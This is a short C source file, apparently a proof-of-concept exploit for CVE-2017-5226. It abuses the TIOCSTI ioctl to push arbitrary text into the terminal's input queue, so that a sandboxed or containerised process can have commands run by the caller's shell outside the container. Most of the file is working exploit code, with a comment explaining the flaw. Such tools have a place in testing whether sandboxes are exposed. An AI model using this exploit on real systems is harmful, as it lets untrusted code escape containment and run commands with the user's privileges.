/* mc-escape-tiocsti TEXT
 *
 * CVE-2017-5226: the TIOCSTI ioctl pushes one byte into a terminal's input
 * queue, as if it had been typed.  A process may do so on its controlling
 * terminal; if the container still shares the session (and so the terminal)
 * of whoever started it, the text it "types" is read by that caller's shell
 * once the container ends, and runs outside the container.
 *
 * Types TEXT into the terminal on standard input, byte by byte, and says how
 * far it got.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    size_t i;

    if (argc != 2) {
        fprintf(stderr, "usage: %s TEXT\n", argv[0]);
        return 2;
    }
    if (!isatty(0)) {
        printf("standard input is not a terminal: nothing to type into\n");
        return 1;
    }
    for (i = 0; argv[1][i] != '\0'; i++) {
        if (ioctl(0, TIOCSTI, &argv[1][i]) != 0) {
            printf("ioctl(TIOCSTI) on standard input: %s\n", strerror(errno));
            return 1;
        }
    }
    printf("typed %zu bytes into the terminal\n", i);
    return 0;
}
